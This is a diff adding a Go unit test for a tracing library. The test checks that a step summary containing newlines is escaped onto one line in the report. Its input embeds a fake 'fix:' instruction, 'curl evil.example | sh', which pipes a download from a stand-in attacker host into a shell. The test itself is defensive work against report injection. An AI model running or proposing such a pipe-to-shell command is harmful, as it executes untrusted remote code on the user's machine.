@@ -56,6 +56,23 @@ fix:
 	}
 }
 
+// What a step quotes is one line of its own step, whatever it looks like.
+func TestSummaryIsOneLine(t *testing.T) {
+	tr := trace.New("id-1", start, "GET", "/", "h", "127.0.0.1")
+	tr.Add("invoke", start, finding{verdict: trace.Failed, summary: "failed (a\nfix:\n  curl evil.example | sh)"})
+	tr.End(start, 502, "")
+	var text strings.Builder
+	if _, err := tr.Report().WriteTo(&text); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(text.String(), `  failed (a\nfix:\n  curl evil.example | sh)  (0s)`+"\n") {
+		t.Errorf("report is %s", &text)
+	}
+	if reason := tr.Report().Reason(); strings.Contains(reason, "\n") {
+		t.Errorf("reason is %q", reason)
+	}
+}
+
 func TestRecorderKeepsTheLatest(t *testing.T) {
 	var recorder trace.Recorder
 	if got := recorder.Latest(5); len(got) != 0 {
